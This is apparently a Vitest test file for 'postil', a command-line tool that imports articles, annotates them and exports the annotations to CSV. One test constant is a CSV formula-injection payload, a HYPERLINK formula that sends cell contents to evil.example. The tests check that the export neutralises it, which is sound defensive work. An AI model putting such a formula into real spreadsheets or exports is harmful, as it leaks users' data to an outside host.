import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { commandLine } from '../../support/command-line.ts';
import { parseElsewhere } from '../../support/second-csv-parser.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';

const folder = temporaryFolder('cli');
const postil = commandLine(folder);
const at = (...names: string[]) => join(folder, ...names);
const workspace = at('basin.postil');

const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"Click, here")';
const URDU = '"دریا کا پانی، سب کا ہے۔"';

const ARTICLE = `A quiet border – The Valley Herald – VALLEYHERALD.EXAMPLE

By Mira Sand

The two governments have kept the ceasefire for three years 🌊, and trade across the river has doubled.

He wrote: ${URDU}

${HOSTILE}

They should publish the gauge readings every day, from both banks, in one table.

Published in The Valley Herald, March 16th, 2025
`;

const PAGE = `<!doctype html><html lang="en"><head><title>On treaties</title>
<meta name="author" content="T. Reed"></head><body><article><h1>On treaties</h1>
${'<p>In 1975 the Helsinki Final Act tied borders to rights, and it took fifteen years to matter.</p>'.repeat(3)}
<p>The Indus Waters Treaty of 1960 has outlived three wars.</p></article></body></html>`;

const quote = (exact: string) => ({ type: 'TextQuoteSelector', exact });
const body = (purpose: string, value: string) => ({ type: 'TextualBody', purpose, value });
const annotation = (id: string, source: string, exact: string, ...bodies: object[]) => ({
  id: `urn:x:${id}`,
  type: 'Annotation',
  body: bodies,
  target: { source, selector: quote(exact) },
});

const COLLECTION = {
  '@context': 'http://www.w3.org/ns/anno.jsonld',
  type: 'AnnotationCollection',
  first: {
    type: 'AnnotationPage',
    items: [
      {
        ...annotation(
          '1',
          'A quiet border',
          'trade across the river has doubled',
          body('classifying', 'claim'),
          body('tagging', 'trade'),
          body('commenting', 'Two lines,\n"quoted".'),
        ),
        'postil:fields': { speaker: 'The author', claim_type: 'factual', verdict: 'unverified' },
        'postil:confidence': 4,
        'postil:keyPassage': true,
      },
      annotation('2', 'A quiet border', HOSTILE),
      annotation('3', 'A quiet border', URDU),
      annotation(
        '4',
        'A quiet border',
        'They should publish the gauge readings every day',
        body('classifying', 'option'),
      ),
      annotation(
        '5',
        'On treaties',
        'Indus Waters Treaty of 1960',
        body('classifying', 'precedent'),
        body('tagging', 'water'),
      ),
      {
        id: 'urn:x:6',
        type: 'Annotation',
        motivation: 'linking',
        body: 'urn:x:5',
        target: 'urn:x:4',
        'postil:linkType': 'precedent-for',
      },
    ],
  },
};

beforeAll(async () => {
  mkdirSync(at('articles', 'deeper', '.hidden'), { recursive: true });
  writeFileSync(at('articles', 'border.txt'), ARTICLE);
  writeFileSync(at('articles', 'deeper', 'treaties.html'), PAGE);
  writeFileSync(at('articles', 'deeper', 'photo.jpg'), 'not an article');
  writeFileSync(at('articles', 'deeper', '.hidden', 'secret.txt'), ARTICLE);
  writeFileSync(at('notes.jsonld'), JSON.stringify(COLLECTION));
  expect(await postil(['new', workspace, '--name', 'The basin', '--json'])).toEqual({
    code: 0,
    out: `${JSON.stringify({ path: workspace, name: 'The basin' }, null, 2)}\n`,
    err: '',
  });
  const imported = await postil(['import', workspace, at('articles'), '--json']);
  expect(imported).toMatchObject({ code: 0, err: '' });
  expect(JSON.parse(imported.out)).toMatchObject([
    { file: at('articles', 'border.txt'), title: 'A quiet border', warnings: [] },
    { file: at('articles', 'deeper', 'treaties.html'), title: 'On treaties' },
  ]);
  const annotated = await postil(['annotate', workspace, at('notes.jsonld'), '--json']);
  expect(annotated).toMatchObject({ code: 0, err: '' });
  expect(JSON.parse(annotated.out)).toEqual({ exact: 5, moved: 0, orphan: 0, refused: [] });
});

describe('the CSV', () => {
  const file = at('evidence.csv');
  const rowsOf = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true });

  it('holds what was tagged, cell by cell, with the formula made harmless', async () => {
    const answer = await postil(['export', workspace, '--format', 'csv', '--to', file, '--json']);
    expect(answer.code).toBe(0);
    expect(JSON.parse(answer.out)).toEqual({
      path: file,
      rows: 5,
      bytes: statSync(file).size,
      losses: [],
    });
    const rows = rowsOf(readFileSync(file, 'utf8'));
    expect(rows.map(row => row.quote)).toEqual([
      'trade across the river has doubled',
      URDU,
      `'${HOSTILE}`,
      'They should publish the gauge readings every day',
      'Indus Waters Treaty of 1960',
    ]);
    expect(rows[0]).toMatchObject({
      kind: 'claim',
      note: 'Two lines,\n"quoted".',
      tags: 'trade',
      speaker: 'The author',
      claim_type: 'factual',
      verdict: 'unverified',
      confidence: '4',
      key_passage: 'true',
      document_title: 'A quiet border',
      publication: 'The Valley Herald',
      published: '2025-03-16',
      offset_unit: 'code points',
      anchor_status: 'exact',
      guarded: '',
    });
    // The context begins with the end of a line, which is a lead of its own.
    expect(rows[2]?.guarded).toBe('quote; context_after');
    expect(rows[4]?.links).toBe(`precedent-for → ${rows[3]?.annotation_id}`);
  });

  it('is read alike by two parsers of two languages', () => {
    const elsewhere = parseElsewhere(file);
    expect(elsewhere).toEqual(parse(readFileSync(file), { bom: true }));
    expect(elsewhere[3]?.[2]).toBe(`'${HOSTILE}`);
  });

  it('gives offsets at which any program finds the quote, counting code points', async () => {
    const [row] = rowsOf(readFileSync(file, 'utf8'));
    const before = row?.context_before ?? '';
    expect(before).toContain('🌊');
    const { out } = await postil(['list', workspace, 'annotations', '--json']);
    expect(JSON.parse(out)[0]).toMatchObject({ start: Number(row?.start), end: Number(row?.end) });
    expect(Number(row?.end) - Number(row?.start)).toBe([...(row?.quote ?? '')].length);
  });

  it('is the same bytes on standard output', async () => {
    const { code, out } = await postil(['export', workspace, '--format', 'csv', '--to', '-']);
    expect(code).toBe(0);
    expect(Buffer.from(out).equals(readFileSync(file))).toBe(true);
    expect((await postil(['export', workspace])).out).toBe(out);
  });

  it('can go without the mark for Excel and with cells as they are', async () => {
    const { out } = await postil(['export', workspace, '--no-bom', '--raw-cells']);
    expect(out.startsWith('annotation_id,')).toBe(true);
    expect(rowsOf(out).map(row => row.quote)).toContain(HOSTILE);
  });

  it.each([
    [
      ['--preset', 'claims'],
      ['claim', 'claim', 'claim'],
    ],
    [['--kind', 'option'], ['option']],
    [
      ['--kind', 'option', '--kind', 'precedent'],
      ['option', 'precedent'],
    ],
    [['--tag', 'WATER'], ['precedent']],
    [['--document', 'on treaties'], ['precedent']],
    [['--preset', 'claims', '--kind', 'option'], []],
  ])('narrows by %j', async (options, kinds) => {
    const { out } = await postil(['export', workspace, ...options]);
    expect(rowsOf(out).map(row => row.kind)).toEqual(kinds);
  });

  it('leaves the columns of other kinds out of a preset of one kind', async () => {
    const { out } = await postil(['export', workspace, '--preset', 'precedents', '--no-bom']);
    const header = out.split('\r\n')[0]?.split(',');
    expect(header).toContain('event_when');
    expect(header).not.toContain('speaker');
    expect(header).not.toContain('stance');
  });
});

describe('list', () => {
  const list = async (...args: string[]) =>
    JSON.parse((await postil(['list', workspace, ...args, '--json'])).out);

  it('gives documents with their own shape', async () => {
    const documents = await list('documents');
    const border = documents.find((document: { title: string }) => document.title === 'A quiet border');
    expect(Object.keys(border)).toEqual([
      'id',
      'title',
      'byline',
      'publication',
      'published',
      'url',
      'accessed',
      'language',
      'direction',
      'status',
      'words',
      'annotations',
    ]);
    expect(border).toMatchObject({
      publication: 'The Valley Herald',
      published: '2025-03-16',
      annotations: 4,
      status: 'unread',
    });
  });

  it('gives annotations under the names of the columns', async () => {
    const [first] = await list('annotations', '--query', 'doubled');
    const { out } = await postil(['export', workspace, '--no-bom']);
    expect(Object.keys(first)).toEqual(out.split('\r\n')[0]?.split(','));
    expect(first).toMatchObject({
      kind: 'claim',
      tags: ['trade'],
      key_passage: true,
      confidence: 4,
      byline: 'Mira Sand',
    });
  });

  it.each([
    [['documents', '--query', 'TREATIES'], 1],
    [['documents', '--kind', 'precedent'], 1],
    [['documents', '--tag', 'trade'], 1],
    [['annotations', '--kind', 'claim'], 3],
    [['annotations', '--tag', 'water'], 1],
    [['annotations', '--document', 'A quiet border'], 4],
    [['annotations', '--query', 'gauge readings'], 1],
    [['annotations', '--query', 'no such words'], 0],
    [['tags'], 2],
    [['tags', '--query', 'wat'], 1],
    [['links'], 1],
    [['links', '--kind', 'claim'], 0],
    [['people'], 1],
  ])('narrows %j', async (args, count) => {
    expect(await list(...args)).toHaveLength(count);
  });

  it('prints a line each, without what could command a terminal', async () => {
    const { out, code } = await postil(['list', workspace, 'annotations']);
    expect(code).toBe(0);
    expect(out.trimEnd().split('\n')).toHaveLength(5);
    expect(out.replaceAll(/[\t\n]/g, '')).not.toMatch(/\p{Cc}/u);
  });

  it('does not narrow what a filter says nothing of, and names what it cannot find', async () => {
    expect(await postil(['list', workspace, 'people', '--kind', 'claim'])).toMatchObject({
      code: 2,
      err: 'postil: --kind does not narrow people\n',
    });
    const { code, err } = await postil(['list', workspace, 'annotations', '--tag', 'fire']);
    expect([code, err]).toEqual([
      1,
      `postil: There is no such tag (${workspace}): none has the id, path or name “fire”\n`,
    ]);
  });
});

describe('search', () => {
  it('finds articles and annotations, with offsets in code points', async () => {
    const { out } = await postil(['search', workspace, 'trade', 'river', '--json']);
    const hits = JSON.parse(out);
    const passage = hits.find((hit: { part: string }) => hit.part === 'annotation');
    expect(passage).toMatchObject({ title: 'A quiet border', kind: 'claim' });
    const [listed] = JSON.parse((await postil(['list', workspace, 'annotations', '--json'])).out);
    expect([passage.start, passage.end]).toEqual([listed.start, listed.end]);
    expect((await postil(['search', workspace, 'helsinki'])).out).toContain('On treaties');
    expect(await postil(['search', workspace, 'zzzzz'])).toEqual({ code: 0, out: '', err: '' });
  });
});

describe('check', () => {
  it('finds the workspace sound', async () => {
    const { code, out } = await postil(['check', workspace, '--json']);
    expect(code).toBe(0);
    expect(JSON.parse(out)).toMatchObject({
      documents: 2,
      annotations: 5,
      anchors: { exact: 5, moved: 0, orphan: 0 },
      problems: [],
    });
    expect((await postil(['check', workspace])).out).toMatch(/^no problem: 2 documents, 5 annotations/);
  });
});

describe('annotate', () => {
  it('changes nothing the second time', async () => {
    const before = await postil(['check', workspace, '--json']);
    const again = await postil(['annotate', workspace, '-'], { stdin: JSON.stringify(COLLECTION) });
    expect(again).toMatchObject({
      code: 0,
      out: expect.stringMatching(/^5 exact, .* 0 annotations and 0 links added/),
    });
    expect((await postil(['check', workspace, '--json'])).out).toBe(before.out);
  });

  it('takes the good ones over, lists the refused with their reasons, and ends with 1', async () => {
    const items = [
      annotation('7', 'A quiet border', 'from both banks'),
      annotation('8', 'Unknown', 'words that are nowhere'),
    ];
    const answer = await postil(['annotate', workspace, '-', '--json'], { stdin: JSON.stringify(items) });
    expect(answer.code).toBe(1);
    expect(answer.err).toBe(
      'postil: Cannot take over urn:x:8 (-): “Unknown” names no document here, and its words stand in none\n',
    );
    expect(JSON.parse(answer.out)).toMatchObject({
      exact: 1,
      moved: 0,
      orphan: 0,
      refused: [{ id: 'urn:x:8' }],
    });
  });
});
